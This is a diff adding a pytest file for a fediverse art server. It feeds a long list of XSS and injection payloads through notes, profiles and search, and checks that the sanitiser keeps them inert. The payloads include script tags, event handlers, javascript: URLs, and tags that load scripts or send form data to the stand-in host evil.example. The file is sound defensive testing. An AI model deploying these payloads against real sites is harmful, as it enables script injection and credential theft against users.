@@ -1,0 +1,248 @@
+"""What strangers write stands in our pages as words: nothing of it runs, dresses up or leads into our own addresses."""
+
+from __future__ import annotations
+
+import re
+from collections.abc import AsyncIterator
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import httpx
+import pytest
+
+from fediart.clock import system_clock, to_iso
+from tests.far_server import FarActor, artist_uri, follow, home, settled
+from tests.people import people_of
+from tests.scene import Scene, a_scene
+
+pytestmark = pytest.mark.anyio
+
+VECTORS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    "<script\x0c>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror='alert(1)'>",
+    '<img src="javascript:alert(1)">',
+    '"><img src=x onerror=alert(1)>',
+    "'><svg onload=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
+    "<math><a href='javascript:alert(1)'>x</a></math>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<object data='javascript:alert(1)'></object>",
+    "<embed src='data:text/html,<script>alert(1)</script>'>",
+    "<applet code=x></applet>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>body{background:url(//evil.example/x)}</style>",
+    "<p style='background:url(javascript:alert(1))'>x</p>",
+    "<p style='position:fixed;inset:0'>cover</p>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>",
+    "<base href=//evil.example/>",
+    "<form action=//evil.example><input name=password></form>",
+    "<button formaction=javascript:alert(1)>x</button>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>x</details>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVaScRiPt:alert(1)'>x</a>",
+    "<a href='java\tscript:alert(1)'>x</a>",
+    "<a href='java&#x0A;script:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href=' \x01javascript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:msgbox(1)'>x</a>",
+    "<a href='//evil.example/'>x</a>",
+    "<a href='/sign-out'>x</a>",
+    "<a href='https://far.example/' onclick=alert(1)>x</a>",
+    "<a href='https://far.example/' target=_top style=x id=main>x</a>",
+    "<a href='https://far.example/\"onmouseover=alert(1)'>x</a>",
+    "<span class='mention primary skip bar card'>x</span>",
+    "<p id=main name=form_token>x</p>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
+    "<!--><img src=x onerror=alert(1)>-->",
+    "<![CDATA[<script>alert(1)</script>]]>",
+    "<?xml version='1.0'?><script>alert(1)</script>",
+    "<textarea></textarea><script>alert(1)</script>",
+    "<title></title><script>alert(1)</script>",
+    "<table><td background=javascript:alert(1)>x</table>",
+    "<marquee onstart=alert(1)>x</marquee>",
+    "<isindex action=javascript:alert(1)>",
+    "<x onclick=alert(1)>x</x>",
+    "<p/onclick=alert(1)>x",
+    "<\x00script>alert(1)</script>",
+    "{{ 7 * 7 }}{% raw %}${7*7}<%= 7*7 %>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&amp;lt;script&amp;gt;alert(1)",
+    "\u202egnp.exe\u2066\u200b",
+]
+
+ELEMENTS = set(
+    re.findall(
+        r"\w+",
+        """html head meta title link script body a header nav img span form input button main section div p h1 h2 footer b article
+        strong small time br em i u del s code pre blockquote ul ol li h3 h4 h5 h6 ruby rt rp sub sup figure figcaption details
+        summary label textarea select option fieldset legend dl dt dd noscript progress""",
+    )
+)
+"""All that our own templates and the sanitiser's list hold."""
+
+
+class Page(HTMLParser):
+    """Collects what must not be there."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.problems: list[str] = []
+        self.links: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        given = {name: value or "" for name, value in attrs}
+        if tag not in ELEMENTS:
+            self.problems.append(f"<{tag}>")
+        if tag == "script" and not given.get("src", "").startswith("/static/"):
+            self.problems.append(f"script {given}")
+        if tag == "img" and not given.get("src", "").startswith(("/static/", "/media/")):
+            self.problems.append(f"img {given}")
+        if tag == "form" and not given.get("action", "").startswith("/"):
+            self.problems.append(f"form {given}")
+        if tag == "link" and not given.get("href", "").startswith(("/", "http://localhost")):
+            self.problems.append(f"link {given}")
+        for name, value in given.items():
+            if name.startswith("on") or name in ("style", "srcdoc", "formaction", "background", "xlink:href", "target", "srcset"):
+                self.problems.append(f"{tag} {name}={value}")
+            if name in ("href", "src", "action") and urlsplit(value.strip()).scheme not in ("", "http", "https"):
+                self.problems.append(f"{tag} {name}={value}")
+            if name == "href":
+                self.links.append(value)
+
+    handle_startendtag = handle_starttag
+
+    @classmethod
+    def of(cls, text: str) -> Page:
+        page = cls()
+        page.feed(text)
+        page.close()
+        return page
+
+
+def test_the_checker_sees_what_it_is_to_see() -> None:
+    for vector in ("<script>x</script>", "<img src=x>", "<p onclick=x>", "<a href='javascript:x'>", "<svg>", "<p style=x>"):
+        assert Page.of(vector).problems, vector
+
+
+@pytest.fixture
+async def scene(prepared: Path, tmp_path: Path) -> AsyncIterator[Scene]:
+    async with a_scene(prepared, tmp_path) as opened:
+        yield opened
+
+
+def _hostile_actor(scene: Scene, number: int, vector: str) -> FarActor:
+    """An actor whose every word is a vector. They share one key."""
+    actor = FarActor(scene.far, f"x{number}", scene.ana.number)
+    lines = [{"type": "PropertyValue", "name": vector, "value": vector}]
+    scene.far.serve(f"/users/x{number}", actor.document(name=vector, summary=vector, attachment=lines))
+    return actor
+
+
+def _hostile_note(scene: Scene, vector: str, published: int) -> dict[str, Any]:
+    tags = [{"type": "Hashtag", "name": f"#{vector}"}, {"type": "Mention", "href": artist_uri(scene.world), "name": vector}]
+    picture = {"type": "Image", "url": f"{scene.far.url}/absent.jpg", "mediaType": "image/jpeg", "name": vector}
+    more = {
+        "summary": vector,
+        "tag": tags,
+        "attachment": [picture],
+        "contentMap": {vector: vector},
+        "cc": [artist_uri(scene.world)],
+    }
+    return scene.ana.note(vector, published=to_iso(published), url=f"{scene.far.url}/{vector}".replace(" ", "%20"), **more)
+
+
+def _check(page: httpx.Response, where: str) -> Page:
+    assert page.status_code < 500, where
+    found = Page.of(page.text)
+    assert found.problems == [], where
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" not in page.headers.get("link", "")
+    return found
+
+
+async def test_no_vector_in_any_field_of_a_note_runs_in_any_page(scene: Scene) -> None:
+    world = scene.world
+    await follow(world, scene.ana)
+    start = system_clock() - len(VECTORS) * 60_000
+    for number, vector in enumerate(VECTORS):
+        said = scene.ana.create(_hostile_note(scene, vector, start + number * 60_000))
+        assert (await scene.ana.says(world, said)).status_code == 202
+    await settled(world)
+    entries: list[dict[str, Any]] = []
+    while len(entries) < len(VECTORS):
+        more = {"max_id": entries[-1]["id"]} if entries else {}
+        page = (await world.client.get("/api/v1/timelines/home", params={"limit": 40, **more})).json()
+        assert page, "every note came, whatever stands in it"
+        entries += page
+    for entry in entries:
+        inner = Page.of(entry["content"])
+        assert inner.problems == [], entry["content"]
+        assert all(urlsplit(link).scheme in ("http", "https") for link in inner.links), entry["content"]
+        assert "\u202e" not in "".join(tag["name"] for tag in entry["tags"])
+        for tag in entry["tags"]:
+            assert urlsplit(tag["url"]).netloc == "localhost:8000"
+    async with people_of(world.instance) as people:
+        mira = await people.person("mira")
+        paths = ["/notifications", f"/@{scene.ana.acct}", *(f"/works/{entry['id']}" for entry in entries)]
+        older: str | None = "/home"
+        while older:
+            found = _check(await mira.browser.get(older), older)
+            older = next((link for link in found.links if link.startswith("/home?max_id=")), None)
+        for path in paths:
+            _check(await mira.browser.get(path), path)
+        for entry in entries:
+            for tag in entry["tags"]:
+                _check(await mira.browser.get(tag["url"].removeprefix("http://localhost:8000")), tag["url"])
+
+
+async def test_no_vector_in_any_field_of_a_profile_runs_in_any_page(scene: Scene) -> None:
+    world = scene.world
+    async with people_of(world.instance) as people:
+        mira = await people.person("mira")
+        for number, vector in enumerate(VECTORS):
+            actor = _hostile_actor(scene, number, vector)
+            assert (await actor.says(world, actor.activity("Follow", artist_uri(world)))).status_code == 202
+            shown = (await world.client.get("/api/v1/accounts/lookup", params={"acct": actor.acct})).json()
+            for part in (shown["note"], *(field["value"] for field in shown["fields"])):
+                assert Page.of(part).problems == [], part
+            assert not {"\u202e", "\u2066", "\u200b"}.intersection(shown["display_name"] + shown["fields"][0]["name"])
+            _check(await mira.browser.get(f"/@{actor.acct}"), vector)
+        await settled(world)
+        for query in ("", f"?max_id={(await world.client.get('/api/v1/notifications')).json()[-1]['id']}"):
+            _check(await mira.browser.get("/notifications" + query), "notifications")
+
+
+async def test_what_is_searched_for_stands_in_the_page_as_words(scene: Scene) -> None:
+    async with people_of(scene.world.instance) as people:
+        mira = await people.person("mira")
+        for vector in VECTORS:
+            _check(await mira.browser.http.get("/search", params={"q": vector}), vector)
+            _check(await mira.browser.http.get("/authorize_interaction", params={"uri": vector}, follow_redirects=True), vector)
+
+
+async def test_the_words_that_are_no_markup_are_kept(scene: Scene) -> None:
+    await follow(scene.world, scene.ana)
+    await scene.heard(
+        scene.ana, scene.ana.create(scene.ana.note("<p>2 &lt; 3 &amp; <b>bold</b> <x>kept</x></p>", summary="a < b"))
+    )
+    (entry,) = await home(scene.world)
+    assert entry["content"] == "<p>2 &lt; 3 &amp; <b>bold</b> kept</p>"
+    assert entry["spoiler_text"] == "a < b"
